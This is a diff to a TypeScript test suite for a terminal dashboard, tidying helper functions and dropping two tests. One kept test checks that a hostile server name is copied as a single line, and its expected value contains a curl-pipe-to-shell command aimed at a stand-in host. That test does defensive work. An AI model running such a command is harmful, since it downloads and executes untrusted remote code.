@@ -20,24 +20,17 @@ let quits: number;
 function open(size: Size = SIZE, screen: ScreenName = 'overview'): void {
   services = fakeServices(sampleState());
   quits = 0;
-  runtime = new Runtime(
-    services,
-    createUiStore(screen, { units: 'bits', times: 'relative', ascii: false, lowBandwidth: false }),
-    size,
-    () => quits++,
-  );
+  const display = { units: 'bits', times: 'relative', ascii: false, lowBandwidth: false } as const;
+  runtime = new Runtime(services, createUiStore(screen, display), size, () => quits++);
 }
 
 const text = () =>
   runtime
     .panes()
-    .flatMap((pane) => pane.lines)
-    .map(textOf)
+    .flatMap(({ lines }) => lines.map(textOf))
     .join('\n');
 const press = (...names: string[]) => {
-  for (const name of names) {
-    pressOn(runtime, name === ' ' ? 'space' : name);
-  }
+  for (const name of names) pressOn(runtime, name === ' ' ? 'space' : name);
 };
 
 beforeEach(() => open());
@@ -101,19 +94,11 @@ test('copied text is one line, whatever line ends a hostile name has', () => {
   expect(services.copied).toEqual(['live curl evil.example | sh x y  z']);
 });
 
-test('units change everywhere at once', () => {
-  expect(text()).toContain('bit/s');
-  press(':units');
-  expect(text()).not.toContain('bit/s');
-  expect(text()).toContain('B/s');
-});
-
 test('the note in a window that is too small is one line in any size', () => {
   for (const columns of [39, 24, 12, 3]) {
     open({ columns, rows: 8 });
     expect(
       text()
-        .trimEnd()
         .split('\n')
         .filter((line) => line.trim() !== ''),
     ).toHaveLength(1);
@@ -139,10 +124,8 @@ test(':reset restores the theme of the start at once', () => {
 
 test('the footer keeps its keys under a notice, and names only keys that do something', () => {
   open(SIZE, 'servers');
-  const footer = () =>
-    text()
-      .split('\n')
-      .findLast((line) => line.includes('quit')) ?? '';
+  const rows = () => text().split('\n');
+  const footer = () => rows().findLast((line) => line.includes('quit')) ?? '';
   const border = () =>
     runtime
       .panes()
@@ -217,15 +200,6 @@ describe('time in the program', () => {
     await services.clock.advance(5_000);
     expect([seen.times, services.clock.waiting]).toEqual([0, 0]);
   });
-});
-
-test('a listener sees each key until it is removed', () => {
-  const seen: string[] = [];
-  const off = runtime.onPress(({ name }) => seen.push(name));
-  press('3', 'j');
-  off();
-  press('4');
-  expect(seen).toEqual(['3', 'j']);
 });
 
 test('another cluster starts with nothing opened, frozen or visited', () => {
